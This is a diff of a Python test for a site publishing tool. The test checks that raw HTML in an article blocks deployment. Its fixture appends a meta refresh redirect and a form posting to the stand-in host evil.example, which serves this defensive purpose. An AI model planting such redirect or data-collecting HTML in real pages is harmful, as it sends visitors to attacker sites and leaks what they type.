@@ -145,16 +145,17 @@ def test_hostile_html_in_an_article_deploys_nothing(tmp_path, content_copy):
     dest = tmp_path / "www"
     dest.mkdir()
     (dest / "live.html").write_text("the live site")
+    write_marker(dest)  # an earlier publish
     article = content_copy / ARTICLE_SOURCE
     text = read(article)
     hostile = ('\n<meta http-equiv="refresh" content="0; url=https://evil.example/">\n\n'
                '<form action="https://evil.example/collect"><input name="pain"></form>\n')
     article.write_text(text + hostile, encoding="utf-8")
-    result = invoke_publish("--target", "rsync", "--dest", str(dest), "--content",
+    result = invoke_publish(STAGING, "--target", "rsync", "--dest", str(dest), "--content",
                             str(content_copy), SKIP_HTML)
     assert result.returncode != 0
     assert "nothing was deployed" in result.stderr
     lines = len(text.splitlines())
     assert f"{article}:{lines + 2}: raw HTML <meta>" in result.stderr, result.stderr
     assert f"{article}:{lines + 4}: raw HTML <form>" in result.stderr, result.stderr
-    assert [path.name for path in dest.iterdir()] == ["live.html"]
+    assert sorted(path.name for path in dest.iterdir()) == [".site-build", "live.html"]
